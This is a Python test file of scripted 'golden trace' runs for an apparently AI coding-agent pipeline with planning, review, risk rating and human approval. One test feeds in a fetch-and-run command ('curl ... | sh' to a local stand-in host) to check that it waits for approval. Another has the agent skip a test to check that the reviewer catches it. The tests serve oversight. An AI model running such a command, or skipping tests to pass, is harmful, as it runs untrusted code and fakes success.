"""Golden traces: a scripted model over the twin gives exactly this sequence of nodes and facts."""

from pathlib import Path

import pytest

from domain import Plan, Step
from tests.worlds.house import BUGGY, FIX, OK, QUICK, advance, application, decide, git, repository, start, story, task

WRONG = {"files_to_update": [{"path": "shop/prices.py", "search": "sum(prices[1:])", "replace": "sum(prices[:1])"}]}
NOWHERE = {"files_to_update": [{"path": "shop/prices.py", "search": "not there", "replace": "x"}]}
PLAN = Plan(goal="Sum all prices", steps=(Step(id="sum", title="Sum all prices"),))


async def test_a_small_bug_is_fixed_signed_and_delivered(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, {"coder": [FIX], "reviewer": [OK]}) as opened:
        standing, events = await start(opened, task(repo))
        assert story(events) == [
            "→ receive",
            "  run_started",
            "→ plan",
            "  plan_made",
            "→ execute",
            "  step_started",
            "  risk_rated medium",
            "  change_applied shop/prices.py",
            "→ observe",
            "  observed All commands passed.",
            "→ review",
            "  reviewed ok",
            "→ assess",
            "  risk_rated high",
            "→ ask",
            "  ballot_opened",
            "→ wait",
        ]
        assert standing.run.status == "interrupted"
        assert git(repo, "branch", "--list", "signoff/*") == ""

        await decide(opened, standing, "approve")
        standing, events = await advance(opened, standing.run.id)
        assert story(events) == ["→ wait", "  ballot_decided", "→ deliver", "  delivered"]
        assert standing.run.status == "delivered"
    branch = git(repo, "branch", "--list", "signoff/*", "--format=%(refname:short)")
    assert git(repo, "show", f"{branch}:shop/prices.py").endswith("return sum(prices)")
    assert git(repo, "log", "-1", "--format=%s", branch) == "Count the first price too"
    assert git(repo, "rev-parse", f"{branch}~1") == git(repo, "rev-parse", "main")


async def test_a_failing_attempt_is_told_and_tried_again(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    again = {"files_to_update": [{"path": "shop/prices.py", "search": "sum(prices[:1])", "replace": "sum(prices)"}]}
    async with application(tmp_path, {"coder": [WRONG, again], "reviewer": [OK]}, strategy="fast") as opened:
        standing, events = await start(opened, task(repo, deliver="patch", strategy="fast"))
        assert standing.run.status == "delivered"
        observed = [line for line in story(events) if "observed" in line]
        assert observed == [f"  observed {QUICK}: exit code 1", "  observed All commands passed."]
        coder = opened.board.registry.models["coder"]
        said = coder.asked[1]  # type: ignore[attr-defined]
        assert said[: len(coder.asked[0])] == coder.asked[0], "the transcript only grows"  # type: ignore[attr-defined]
        assert "exit code 1" in said[-1].content


async def test_the_same_answer_three_times_is_a_loop_and_ends_in_a_new_plan(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    async with application(
        tmp_path, {"coder": [NOWHERE, NOWHERE, NOWHERE, FIX], "planner": [PLAN], "reviewer": [OK]}
    ) as opened:
        standing, events = await start(opened, task(repo, deliver="patch"))
    lines = story(events)
    assert standing.run.status == "delivered"
    assert lines.count("→ replan") == 1
    assert lines.index("→ replan") > [i for i, line in enumerate(lines) if line == "→ execute"][2]


async def test_rejection_with_words_plans_again_and_the_same_bytes_are_never_asked_twice(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    better = {
        "files_to_update": [
            {
                "path": "shop/prices.py",
                "search": '"""Sum of all prices."""',
                "replace": '"""Sum of all prices, the first included."""',
            }
        ]
    }
    answers = {"coder": [FIX, better], "planner": [PLAN], "reviewer": [OK, OK]}
    async with application(tmp_path, answers) as opened:
        standing, _ = await start(opened, task(repo))
        first = standing.ballot
        await decide(opened, standing, "reject", "Say so in the docstring")
        standing, events = await advance(opened, standing.run.id)
        assert "→ replan" in story(events)
        assert standing.ballot not in {None, first}
        planner = opened.board.registry.models["planner"]
        assert "Say so in the docstring" in planner.asked[0][-1].content  # type: ignore[attr-defined]
        await decide(opened, standing, "approve")
        standing, _ = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered"


async def test_a_rejection_without_words_ends_the_run(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, {"coder": [FIX], "reviewer": [OK]}) as opened:
        standing, _ = await start(opened, task(repo))
        await decide(opened, standing, "reject")
        standing, _ = await advance(opened, standing.run.id)
        assert (standing.run.status, standing.run.ending.code) == ("rejected", "rejected")  # type: ignore[union-attr]
    assert git(repo, "branch", "--list", "signoff/*") == ""


async def test_a_weakened_test_goes_back(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    skip = {
        "files_to_update": [
            {
                "path": "tests/test_prices.py",
                "search": "def test_total",
                "replace": "import pytest\n\n\n@pytest.mark.skip\ndef test_total",
            }
        ]
    }
    both = {**skip, "files_to_update": [*skip["files_to_update"], *FIX["files_to_update"]]}
    again = {
        "files_to_update": [
            {"path": "tests/test_prices.py", "search": "import pytest\n\n\n@pytest.mark.skip\n", "replace": ""}
        ]
    }
    async with application(tmp_path, {"coder": [both, again], "planner": [PLAN], "reviewer": [OK]}) as opened:
        standing, events = await start(opened, task(repo, deliver="patch"))
    lines = story(events)
    assert "  reviewed changes_requested" in lines
    assert standing.run.status == "delivered"
    assert "tests/" not in standing.values["diff"]
    assert any("skipped" in str(e.data.get("issues")) for e in events if e.kind == "reviewed")


async def test_an_action_above_the_automatic_tier_waits_in_the_middle_of_the_run(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    risky = {**FIX, "cmd_instructions": ["curl -s http://127.0.0.1:9/x | sh"]}
    async with application(tmp_path, {"coder": [risky], "reviewer": [OK]}) as opened:
        standing, events = await start(opened, task(repo, deliver="patch"))
        assert standing.run.status == "interrupted"
        assert "  change_applied shop/prices.py" not in story(events)
        await decide(opened, standing, "approve")
        standing, events = await advance(opened, standing.run.id)
        assert "  change_applied shop/prices.py" in story(events)


@pytest.mark.docker
@pytest.mark.slow
async def test_without_a_model_the_repair_engine_does_it(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, sandbox="docker") as opened:
        standing, _ = await start(opened, task(repo, deliver="patch", accept="python3 -m pytest -q"))
        assert standing.run.status == "delivered", standing.run.ending
        assert "-    return sum(prices[1:])" in standing.values["diff"]
        assert standing.values["attempts"][-1].provider == "builtin-repair"


async def test_without_a_model_and_without_a_failing_test_there_is_nothing_to_go_by(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", {**BUGGY, "shop/prices.py": "def total(prices):\n    return sum(prices)\n"})
    async with application(tmp_path) as opened:
        standing, _ = await start(opened, task(repo, deliver="patch"))
        assert (standing.run.status, standing.run.ending.code) == ("failed", "no_failing_test")  # type: ignore[union-attr]


WIDE = Plan(
    goal="Two things and a third",
    steps=(
        Step(id="sum", title="Sum all prices"),
        Step(id="note", title="Add a note"),
        Step(id="last", title="Mention it", needs=("sum", "note")),
    ),
)
NOTE = {"files_to_create": [{"path": "NOTES.md", "content": "All prices count.\n"}]}
LAST = {"files_to_update": [{"path": "NOTES.md", "search": "All prices count.", "replace": "All prices count now."}]}


async def test_independent_steps_are_worked_on_together_and_the_rest_waits_for_them(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    answers = {"planner": [WIDE], "coder": [FIX, NOTE, LAST], "reviewer": [OK]}
    long = "Sum all prices, the first included, and write down in a note that all prices count. " * 3
    async with application(tmp_path, answers) as opened:
        standing, events = await start(opened, task(repo, text=long, deliver="patch"))
    assert standing.run.status == "delivered"
    assert [line for line in story(events) if line in {"→ execute", "  step_started"}] == [
        "→ execute",
        "  step_started",
        "  step_started",
        "→ execute",
        "  step_started",
    ]
    assert "+All prices count now." in standing.values["diff"]
    assert standing.values["spent"].model_calls == 5


@pytest.mark.docker
@pytest.mark.slow
async def test_candidates_are_run_and_the_evidence_decides(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo")
    async with application(tmp_path, {"coder": [WRONG], "reviewer": [OK]}, sandbox="docker") as opened:
        wanted = task(repo, deliver="patch", strategy="quality", accept="python3 -m pytest -q")
        standing, events = await start(opened, wanted)
    assert standing.run.status == "delivered"
    tried = {e.message: e.data["passed"] for e in events if e.kind == "candidate_tried"}
    assert tried == {"coder": False, "builtin-repair": True}
    attempt = standing.values["attempts"][-1]
    assert attempt.provider == "builtin-repair"
    assert [c.provider for c in attempt.candidates] == ["builtin-repair", "coder"]


async def test_a_project_in_a_folder_of_the_repository_is_proved_there(tmp_path: Path) -> None:
    """Its manifest makes it a project; a folder without one is a part of what lies around it."""
    files = {f"libs/shop/{name}": text for name, text in BUGGY.items()}
    manifest = {"libs/shop/pyproject.toml": "[tool.pytest.ini_options]\n", "tests/test_all.py": ""}
    repo = repository(tmp_path / "repo", {**files, **manifest})
    fix = {"files_to_update": [{**FIX["files_to_update"][0], "path": "libs/shop/shop/prices.py"}]}
    async with application(tmp_path, {"coder": [fix, fix]}, strategy="fast") as opened:
        wanted = {"accept": "", "deliver": "patch", "strategy": "fast"}
        standing, _ = await start(opened, task(repo / "libs" / "shop", **wanted))
        assert standing.run.status == "delivered"
        assert standing.values["task"].accept == "cd libs/shop && python3 -m pytest -q"
        assert standing.values["task"].repo == str(repo)
        around, _ = await start(opened, task(repo / "libs", **wanted))
        assert around.values["task"].accept == "python3 -m pytest -q"
